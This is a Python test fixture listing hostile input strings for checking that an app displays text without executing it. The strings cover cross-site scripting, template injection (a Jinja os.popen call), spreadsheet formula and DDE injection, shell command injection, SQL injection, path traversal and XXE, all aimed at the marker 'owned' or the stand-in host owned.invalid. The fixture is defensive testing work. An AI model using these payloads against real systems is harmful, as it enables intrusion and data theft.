"""What hostile text looks like, invented or well known: each must be shown as text, and nothing in it may happen.

Whatever would run sets ``window.owned`` or asks for an address with ``owned`` in it, so that a test can tell.
`PAYLOADS` can be stored anywhere; `BROKEN` holds text that is no valid Unicode, for the doors through which it may
come: files, and what is typed.
"""

from __future__ import annotations

import json
import os
import random
from collections.abc import Mapping

_RUN = "window.owned=1"
_URL = "//owned.invalid"

_MARKUP = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f'<script src="{_URL}/x.js"></script>',
    "script in capitals": f"<ScRiPt >{_RUN}</sCrIpT >",
    "script that closes one": f"</script><script>{_RUN}</script>",
    "script in a comment": f"<!--<img src='--><img src=owned onerror={_RUN}>'-->",
    "image": f"<img src=owned onerror={_RUN}>",
    "image that loads": f"<img src={_URL}/pixel.gif>",
    "image without blanks": f"<img/src=owned/onerror={_RUN}>",
    "image with backticks": f"<img src=`owned` onerror=`{_RUN}`>",
    "svg": f"<svg onload={_RUN}>",
    "svg with a script": f"<svg><script>{_RUN}</script></svg>",
    "svg that animates": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "svg use": f'<svg><use href="{_URL}/x.svg#x"/></svg>',
    "svg foreign object": f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    "math": f'<math><a xlink:href="javascript:{_RUN}">y</a></math>',
    "math that mutates": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=owned "
    f"onerror={_RUN}&gt;'>",
    "frame": f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    "frame with a document": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "embed": f"<embed src='{_URL}/owned.swf'>",
    "video": f"<video><source onerror={_RUN}></video>",
    "audio": f"<audio src=owned onerror={_RUN} autoplay>",
    "body": f"<body onload={_RUN} onpageshow={_RUN}>",
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "field with the focus": f"<input autofocus onfocus={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "form": f"<form action=javascript:{_RUN}><button autofocus onfocus={_RUN}>x</button></form>",
    "template": f"<template shadowrootmode=open><img src=owned onerror={_RUN}></template>",
    "custom element": f"<x-owned onanimationstart={_RUN} style='animation:rotation 1s'>x</x-owned>",
    "base": f"<base href='{_URL}/'>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "style sheet": f"<link rel=stylesheet href={_URL}/owned.css>",
    "prefetch": f"<link rel=dns-prefetch href={_URL}>",
    "style": f"<style>@import url({_URL}/owned.css);*{{display:none!important}}</style>",
    "style with an image": f"<b style='background:url({_URL}/owned.png)'>x</b>",
    "bold": "<b>owned</b><i>owned</i><u>owned",
    "unclosed": "<a href='x' <b <<i>> </ </p></div></section>",
    "clobbering": "<form id=jupyterapp name=owned><input name=commands></form><a id=define name=require>",
    "command of JupyterLab": '<button data-commandlinker-command="docmanager:new-untitled" '
    'data-commandlinker-args="{&quot;type&quot;:&quot;notebook&quot;}">x</button>',
    "command with a link": "<a href='#' data-commandlinker-command='terminal:create-new' autofocus>x</a>",
}

_ATTRIBUTES = {
    "out of double quotes": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "out of single quotes": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    "out of an unquoted value": f"x onmouseover={_RUN} autofocus onfocus={_RUN}",
    "out of a tag": f'"><img src=owned onerror={_RUN}>',
    "out of a textarea": f"</textarea><script>{_RUN}</script>",
    "out of a title": f"</title></style></noscript><script>{_RUN}</script>",
    "out of a style": f"}}</style><script>{_RUN}</script><style>{{",
    "out of a comment": f"--><script>{_RUN}</script><!--",
    "out of a custom property": f"red;background:url({_URL}/owned.png);--x:1",
    "out of a script string": f"\";{_RUN};//';{_RUN};//`;{_RUN};//",
    "out of JSON": f'"}}]}};{_RUN};</script><script>{_RUN}</script>{{"x":["',
    "JSON with line separators": f'{{"a":"\u2028{_RUN}\u2029"}}',
    "out of a selector": '"],*{}/*\\"]  .cxw{display:none}[x="',
    "prototype": '{"__proto__":{"owned":1},"constructor":{"prototype":{"owned":1}}}',
    "javascript address": f"javascript:{_RUN}",
    "javascript with a line end": f"java\nscript:{_RUN}",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "file address": "file:///etc/owned",
}

_TEMPLATES = {
    "jinja": "{{7*7}}{% for x in (1).__class__.__mro__ %}{{x}}{% endfor %}",
    "jinja globals": "{{cycler.__init__.__globals__.os.popen('touch owned').read()}}",
    "template literal": f"${{{_RUN}}}#{{{_RUN}}}<%= 7*7 %>",
    "percent and braces": "%s %(owned)s {0.__class__} {owned!r:>99}",
    "markdown link": f"[owned](javascript:{_RUN}) ![owned]({_URL}/x.png) <{_URL}>",
    "markdown block": f"# owned\n\n- *one*\n\n```html\n<script>{_RUN}</script>\n```\n| a | b |\n|---|---|",
    "markdown html": f"**bold** <img src=owned onerror={_RUN}> ~~gone~~ [^1]",
    "mathjax": f"$\\href{{javascript:{_RUN}}}{{x}}$ \\(\\unicode{{x41}}\\) $$\\require{{html}}\\style{{x}}{{y}}$$",
    "mathjax class": f"\\[\\class{{cxw}}{{x}}\\cssId{{jupyterapp}}{{y}}\\href{{{_URL}}}{{z}}\\]",
    "rich markup": "[bold red]owned[/] [link=https://owned.invalid]x[/link] [/nothing]",
    "notebook mime": json.dumps({"output_type": "display_data", "data": {"text/html": f"<script>{_RUN}</script>"}}),
    "widget mime": json.dumps({"application/vnd.jupyter.widget-view+json": {"model_id": "owned", "version_major": 2}}),
    "mermaid": f'```mermaid\ngraph LR; A-->B; click A href "javascript:{_RUN}"\n```',
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/owned'>]><x>&y;</x>",
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "typst": '#panic("owned") #image("owned.png") #link("https://owned.invalid")[x]',
    "latex": "\\input{/etc/owned} \\write18{touch owned} 100% & _x_ ^y^",
}

_FORMULAS = {
    "formula": '=HYPERLINK("https://owned.invalid/"&A1,"click")',
    "formula with plus": "+cmd|' /C owned'!A0",
    "formula with minus": "-2+3+cmd|' /C owned'!A0",
    "formula with at": "@SUM(1+1)*cmd|' /C owned'!A0",
    "formula after a tab": '\t=WEBSERVICE("https://owned.invalid")',
    "formula after a line end": '\r\n=IMPORTXML("https://owned.invalid","//a")',
    "formula after quotes": '";=1+1;"',
    "command line": "; touch owned && $(touch owned) `touch owned` | owned > owned",
    "sql": "'; DROP TABLE decision; --",
    "path": "../../../etc/owned\\..\\owned",
}

_CHARACTERS = {
    "entities": "&lt;script&gt;&amp;lt;b&amp;gt;&#60;img src=owned&#62;&#x3c;i&nbsp;&copy;&bogus;",
    "entities without ends": "&lt&#60&#0000060&#x000003Cimg src=owned",
    "bidi overrides": "start \u202etxt.exe\u202c \u2066left\u2069 \u2067right end",
    "right to left": "گفت: «آب‌میوه» (سه) 12:30 <b>پررنگ</b>",
    "zero width": "wo\u200brd\u200c joi\u200dned\u2060 \ufeffmark",
    "combining": "Z\u0351\u036b\u0343a\u0335\u0321\u0362l\u0348g\u0349o\u0321",
    "emoji": "👩🏽‍🔬🏳️‍🌈👨‍👩‍👧‍👦 🇩🇪",
    "line and paragraph ends": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://owned.invalid\x07link\x1b]8;;\x07 \x9b2J",
    "control": "a\x01b\x08c\x7fd\x9fe",
    "no characters": "\ufffe\uffff\ufffd",
    "wide letters": f"＜script＞{_RUN}＜/script＞ ‹b› ʼ onx=ʼ",
    "other planes": "𝕏𝓸𝔀𝓷𝓮𝓭 𐀀 \U000e0001\U000e007f",
    "very long word": "<b>" + "owned" * 600,
    "very long text": "and then <i>nothing</i> happened, " * 120,
    "deeply nested": "<div>" * 400 + "[" * 400,
    "numbers": "NaN Infinity -0 1e309 0x10 1_000 00:00:00 --> 99:99:99",
    "words of programs": "null undefined None true false NaN constructor __proto__ hasOwnProperty",
    "case that changes length": "İ ß ŉ ΐ ﬃ Straße İSTANBUL",
}

PAYLOADS: Mapping[str, str] = {**_MARKUP, **_ATTRIBUTES, **_TEMPLATES, **_FORMULAS, **_CHARACTERS}
"""What a payload is about, to the text."""

BROKEN: Mapping[str, str] = {
    "first half of a pair": "low \ud83d end",
    "second half of a pair": "high \udc69 end",
    "halves the wrong way round": "swapped \ude00\ud83d end",
    "nothing in the middle": "nul \x00 end",
}
"""No Unicode, or not to be stored: what this is about, to the text."""

ALL = os.environ.get("CX_FULL") == "1"
"""Whether every payload is tried everywhere, rather than a few drawn at random."""


def drawn(n: int, *, seed: int = 0) -> dict[str, str]:
    """Return every payload with CX_FULL=1, else `n` of them, some of each sort."""
    if ALL:
        return dict(PAYLOADS)
    chance = random.Random(seed)
    sorts = (_MARKUP, _ATTRIBUTES, _TEMPLATES, _FORMULAS, _CHARACTERS)
    chosen: dict[str, str] = {}
    for number in range(n):
        left = [name for name in sorts[number % len(sorts)] if name not in chosen]
        if left:
            name = chance.choice(left)
            chosen[name] = PAYLOADS[name]
    return chosen
